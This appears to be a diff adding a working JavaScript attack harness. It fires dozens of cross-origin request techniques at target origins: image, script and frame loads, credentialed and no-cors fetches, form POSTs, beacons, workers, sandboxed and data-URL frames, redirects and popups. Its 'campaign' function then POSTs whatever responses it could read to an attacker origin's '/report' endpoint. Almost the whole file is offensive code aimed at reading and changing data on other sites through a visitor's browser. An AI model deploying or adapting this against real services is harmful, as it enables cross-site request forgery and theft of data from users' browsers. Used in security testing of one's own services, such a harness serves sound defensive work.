@@ -1,0 +1,240 @@
+// Every way known to us in which a page makes a browser send a request. An
+// attack gets the URL to reach, and resolves to what it could read of the
+// answer, or to nothing. Those that read are aimed at what a GET could learn or
+// do; those that write use another method, or mean to change something.
+
+let home // the attacker's origin
+const inserted = document.body.appendChild(document.createElement('div'))
+
+const patience = 1000 // milliseconds, with what may never say how it ended
+
+// within makes a promise to which resolve need not be called.
+function within(begin) {
+  return new Promise(resolve => {
+    setTimeout(resolve, patience)
+    begin(resolve)
+  })
+}
+
+// element inserts one, and resolves when it has loaded or failed to.
+function element(name, properties, read = () => 'it loaded') {
+  return within(resolve => {
+    const e = document.createElement(name)
+    e.onload = e.onloadeddata = () => resolve(read(e))
+    e.onerror = () => resolve()
+    for (const [key, value] of Object.entries(properties)) {
+      key in e && typeof value === 'object' ? Object.assign(e[key], value) : e.setAttribute(key, value)
+    }
+    inserted.append(e)
+  })
+}
+
+// textOf reads a frame as far as the browser lets it.
+function textOf(frame) {
+  try {
+    return frame.contentDocument?.documentElement.textContent
+  } catch {}
+}
+
+const frame = properties => element('iframe', properties, textOf)
+const link = properties => element('link', properties)
+
+function style(css) {
+  inserted.append(Object.assign(document.createElement('style'), {textContent: css}))
+}
+
+async function read(url, options) {
+  const answer = await fetch(url, options)
+  return answer.type === 'opaque' ? undefined : answer.text()
+}
+
+function request(method, url, header = {}, prepare = () => {}) {
+  return new Promise(resolve => {
+    const x = new XMLHttpRequest()
+    prepare(x)
+    x.open(method, url)
+    for (const [name, value] of Object.entries(header)) x.setRequestHeader(name, value)
+    x.onload = () => resolve(x.responseText)
+    x.onerror = () => resolve()
+    x.send(method === 'GET' ? null : 'x=1')
+  })
+}
+
+// form submits one into a new frame, or into a window.
+function form(url, properties, target) {
+  return within(resolve => {
+    const f = Object.assign(document.createElement('form'), {action: url, ...properties})
+    f.append(Object.assign(document.createElement('input'), {name: 'x', value: '{"y":"', type: 'hidden'}))
+    for (const [name, value] of new URL(url).searchParams) { // a GET replaces the query
+      if (f.method === 'get') f.append(Object.assign(document.createElement('input'), {name, value, type: 'hidden'}))
+    }
+    const frame = document.createElement('iframe')
+    f.target = target ?? (frame.name = 'form' + Math.random())
+    inserted.append(frame, f)
+    frame.onload = () => resolve(textOf(frame))
+    f.submit()
+    if (target) resolve()
+  })
+}
+
+// click follows a link.
+function click(properties) {
+  const a = document.createElement('a')
+  for (const [name, value] of Object.entries(properties)) a.setAttribute(name, value)
+  inserted.append(a)
+  a.click()
+}
+
+// worker runs a script, which posts what it could read.
+function worker(script) {
+  return new Promise(resolve => {
+    const w = new Worker(URL.createObjectURL(new Blob([script], {type: 'text/javascript'})))
+    w.onmessage = message => resolve(message.data)
+    w.onerror = () => resolve()
+  })
+}
+
+// nowhere runs a script, which posts what it could read, in a frame whose
+// origin is null.
+function nowhere(script, address) {
+  const page = `<script>const post = x => parent.postMessage({${JSON.stringify(address)}: x ?? ''}, '*')\n${script}</` + 'script>'
+  return within(resolve => {
+    addEventListener('message', message => {
+      if (address in message.data) resolve(message.data[address])
+    })
+    frame(address.startsWith('data') ? {src: 'data:text/html,' + encodeURIComponent(page)} : {sandbox: 'allow-scripts allow-forms', srcdoc: page})
+  })
+}
+
+const quoted = JSON.stringify
+const fetching = (url, options) => `fetch(${quoted(url)}, ${quoted(options)}).then(r => r.text()).then(post, () => post())`
+const by = (path, url, more = '') => `${home}${path}?to=${encodeURIComponent(url)}${more}`
+const redirected = (status, url) => by('/redirect', url, `&status=${status}`)
+
+const reading = {
+  img: src => element('img', {src}),
+  imgNoReferrer: src => element('img', {src, referrerpolicy: 'no-referrer'}),
+  imgCrossOrigin: src => element('img', {src, crossorigin: 'use-credentials'}),
+  inputImage: src => element('input', {type: 'image', src}),
+  svgImage: url => { inserted.insertAdjacentHTML('beforeend', `<svg><image href="${url}"/></svg>`) },
+  script: src => element('script', {src}),
+  scriptModule: src => element('script', {type: 'module', src}),
+  importModule: url => import(url).then(() => 'it loaded', () => {}),
+  stylesheet: href => link({rel: 'stylesheet', href}),
+  styleImport: url => style(`@import "${url}";`),
+  styleBackground: url => element('p', {style: {background: `url("${url}")`, height: '9px'}, onerror: null, onload: null}),
+  styleFont: url => { style(`@font-face {font-family: f; src: url("${url}")}`); inserted.insertAdjacentHTML('beforeend', '<p style="font-family: f">x') },
+  iframe: src => frame({src}),
+  iframeSandboxed: src => frame({src, sandbox: ''}),
+  iframeNoReferrer: src => frame({src, referrerpolicy: 'no-referrer'}),
+  iframeRefresh: url => frame({src: by('/refresh', url)}),
+  object: data => element('object', {data}),
+  embed: src => element('embed', {src}, textOf),
+  video: src => element('video', {src, preload: 'auto'}),
+  videoPoster: poster => element('video', {poster}),
+  audio: src => element('audio', {src, preload: 'auto'}),
+  formGet: url => form(url, {method: 'get'}),
+  fetchNoCors: url => read(url, {mode: 'no-cors'}),
+  fetchNoCorsWithCredentials: url => read(url, {mode: 'no-cors', credentials: 'include'}),
+  fetchHead: url => read(url, {mode: 'no-cors', method: 'HEAD'}),
+  fetchCors: url => read(url),
+  fetchCorsWithCredentials: url => read(url, {credentials: 'include'}),
+  fetchNoReferrer: url => read(url, {mode: 'no-cors', referrerPolicy: 'no-referrer'}),
+  fetchWithHeader: url => read(url, {headers: {'X-Custom': '1'}}),
+  fetchWithAuthorization: url => read(url, {headers: {Authorization: 'Bearer x'}}),
+  fetchKeepalive: url => read(url, {mode: 'no-cors', keepalive: true}),
+  xhr: url => request('GET', url),
+  xhrWithCredentials: url => request('GET', url, {}, x => { x.withCredentials = true }),
+  webSocket: url => new Promise(resolve => {
+    const s = new WebSocket(url.replace(/^http/, 'ws'))
+    s.onopen = () => resolve('it opened')
+    s.onerror = () => resolve()
+  }),
+  eventSource: url => new Promise(resolve => {
+    const s = new EventSource(url)
+    const close = x => { s.close(); resolve(x) }
+    s.onmessage = message => close(message.data)
+    s.onopen = () => close('it opened')
+    s.onerror = () => close()
+  }),
+  workerImport: url => worker(`importScripts(${quoted(url)}); postMessage('it loaded')`),
+  workerFetch: url => worker(`const post = x => postMessage(x ?? '')\n${fetching(url, {})}`),
+  prefetch: href => link({rel: 'prefetch', href}),
+  preloadImage: href => link({rel: 'preload', as: 'image', href}),
+  preloadFetch: href => link({rel: 'preload', as: 'fetch', crossorigin: '', href}),
+  modulePreload: href => link({rel: 'modulepreload', href}),
+  redirectImg: url => element('img', {src: redirected(302, url)}),
+  redirectFetch: url => read(redirected(302, url)),
+  redirectFetchNoCors: url => read(redirected(302, url), {mode: 'no-cors'}),
+  redirectIframe: url => frame({src: redirected(301, url)}),
+  nullFetch: url => nowhere(fetching(url, {}), 'sandboxed cors ' + url),
+  nullFetchNoCors: url => nowhere(fetching(url, {mode: 'no-cors'}), 'sandboxed no-cors ' + url),
+  nullNavigation: url => nowhere(`location = ${quoted(url)}`, 'sandboxed location ' + url),
+  dataFetch: url => nowhere(fetching(url, {}), 'data cors ' + url),
+  dataFetchNoCors: url => nowhere(fetching(url, {mode: 'no-cors'}), 'data no-cors ' + url),
+}
+
+const writing = {
+  formURLEncoded: url => form(url, {method: 'post'}),
+  formText: url => form(url, {method: 'post', enctype: 'text/plain'}),
+  formMultipart: url => form(url, {method: 'post', enctype: 'multipart/form-data'}),
+  fetchPostNoCors: url => read(url, {method: 'POST', mode: 'no-cors', body: '{}', credentials: 'include'}),
+  fetchPost: url => read(url, {method: 'POST', body: '{}'}),
+  fetchPostJSON: url => read(url, {method: 'POST', body: '{}', headers: {'Content-Type': 'application/json'}}),
+  fetchPostJSONWithCredentials: url => read(url, {method: 'POST', body: '{}', headers: {'Content-Type': 'application/json'}, credentials: 'include'}),
+  fetchPut: url => read(url, {method: 'PUT', body: '{}'}),
+  fetchPatch: url => read(url, {method: 'PATCH', body: '{}'}),
+  fetchDelete: url => read(url, {method: 'DELETE'}),
+  fetchPostKeepalive: url => read(url, {method: 'POST', mode: 'no-cors', keepalive: true, body: '{}'}),
+  beacon: url => { navigator.sendBeacon(url, 'x=1') },
+  beaconForm: url => { navigator.sendBeacon(url, new URLSearchParams('x=1')) },
+  beaconJSON: url => { navigator.sendBeacon(url, new Blob(['{}'], {type: 'application/json'})) },
+  xhrPost: url => request('POST', url),
+  xhrPostJSON: url => request('POST', url, {'Content-Type': 'application/json'}),
+  xhrPostWatched: url => request('POST', url, {}, x => { x.upload.onprogress = () => {} }),
+  xhrPut: url => request('PUT', url),
+  clickPing: ping => click({href: '#ping', ping}),
+  report: url => frame({src: by('/report-to', url)}),
+  redirectFetchPost: url => read(redirected(307, url), {method: 'POST', body: '{}'}),
+  redirectFetchPostNoCors: url => read(redirected(308, url), {method: 'POST', mode: 'no-cors', body: '{}'}),
+  redirectForm: url => form(redirected(307, url), {method: 'post'}),
+  nullPost: url => nowhere(fetching(url, {method: 'POST', mode: 'no-cors', body: '{}'}), 'sandboxed post ' + url),
+  nullForm: url => nowhere(`document.write('<form method=post action="${url}"><input name=x></form>'); document.forms[0].submit()`, 'sandboxed form ' + url),
+  dataPost: url => nowhere(fetching(url, {method: 'POST', body: '{}'}), 'data post ' + url),
+  workerPost: url => worker(`const post = x => postMessage(x ?? '')\n${fetching(url, {method: 'POST', body: '{}'})}`),
+}
+
+// These hide the page, and a browser makes a hidden page wait: they come last.
+const popping = {
+  popup: url => { open(url) },
+  popupNoOpener: url => { open(url, '_blank', 'noopener,noreferrer') },
+  clickPopup: href => click({href, target: '_blank'}),
+  redirectPopup: url => { open(redirected(303, url)) },
+  formPopup: url => form(url, {method: 'post'}, '_blank'),
+}
+
+// attack tries a group of attacks on a target, at the same time, and returns
+// what it could read.
+async function attack(target, group, path) {
+  const found = await Promise.all(Object.entries(group).map(async ([name, run]) => {
+    const url = new URL(path, target.origin)
+    url.searchParams.set('attack', name)
+    const late = new Promise(resolve => setTimeout(resolve, 30 * patience))
+    const text = await Promise.race([late, Promise.resolve().then(() => run(url.href)).catch(() => {})])
+    return text && {target: target.name, attack: name, text}
+  }))
+  return found.filter(Boolean)
+}
+
+// campaign attacks one target after the other, and tells the attacker.
+async function campaign(targets, attacker) {
+  home = attacker
+  const reads = []
+  for (const target of targets) {
+    const both = await Promise.all([attack(target, reading, target.read), attack(target, writing, target.write)])
+    reads.push(...both.flat())
+  }
+  for (const target of targets) reads.push(...await attack(target, popping, target.read))
+  const report = {page: location.hostname, attacks: [reading, writing, popping].flatMap(Object.keys), reads}
+  await fetch(home + '/report', {method: 'POST', mode: 'no-cors', body: JSON.stringify(report)})
+}
